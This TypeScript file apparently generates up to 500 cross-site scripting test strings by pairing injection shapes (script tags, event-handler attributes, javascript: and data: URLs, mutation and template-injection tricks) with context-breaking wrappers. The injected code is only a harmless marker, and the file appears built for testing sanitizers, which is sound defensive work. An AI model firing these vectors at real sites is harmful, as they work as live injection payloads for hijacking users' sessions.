/** 500 texts that would run a script wherever a text is taken for HTML, for an attribute or for an address. */
const run = 'globalThis.hasRun=1';

const shapes: readonly ((code: string) => string)[] = [
  code => `<script>${code}</script>`,
  code => `<img src=x onerror="${code}">`,
  code => `<svg onload=${code}>`,
  code => `<svg><script>${code}</script></svg>`,
  code => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  code => `<a href="javascript:${code}">x</a>`,
  code => `javascript:${code}`,
  code => `JaVaScRiPt:${code}`,
  code => `\u0001javascript:${code}`,
  code => `java\tscript:${code}`,
  code => `data:text/html,<script>${code}</script>`,
  code => `" onmouseover="${code}" x="`,
  code => `' autofocus onfocus='${code}`,
  code => `\`\${${code}}\``,
  code => `<details open ontoggle=${code}>`,
  code => `<video><source onerror=${code}></video>`,
  code => `<math><mtext><table><mglyph><style><img src=x onerror=${code}>`,
  code => `<template><img src=x onerror=${code}></template>`,
  code => `<style>@import 'x';</style><body onload=${code}>`,
  code => `<form><button formaction="javascript:${code}">x`,
  code => `<input autofocus onfocus=${code}>`,
  code => `<marquee onstart=${code}>`,
  code => `<audio src=x onerror=${code}></audio>`,
  code => `<embed src="javascript:${code}">`,
  code => `<object data="javascript:${code}">`,
  code => `{{constructor.constructor('${code}')()}}`,
  code => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
];

const wrappings: readonly ((text: string) => string)[] = [
  text => text,
  text => `">${text}`,
  text => `'>${text}`,
  text => `</title>${text}`,
  text => `</textarea>${text}`,
  text => `</style>${text}`,
  text => `</script>${text}`,
  text => `-->${text}`,
  text => `]]>${text}`,
  text => `&lt;${text}`,
  text => `\u202e${text}`,
  text => `\u0000${text}`,
  text => `\n\r${text}`,
  text => `$1 ${text} $2`,
  text => encodeURI(text),
  text => text.replaceAll('<', '&lt;'),
  text => text.replaceAll('<', '\uff1c'),
  text => text.toUpperCase(),
  text => `${text}${text}`,
  text => `Ten ships left. ${text} They came back.`,
];

/** Some wrappings leave some shapes as they are: each text once, the first 500. */
export const payloads: readonly string[] = [
  ...new Set(shapes.flatMap(shape => wrappings.map(wrap => wrap(shape(run))))),
].slice(0, 500);
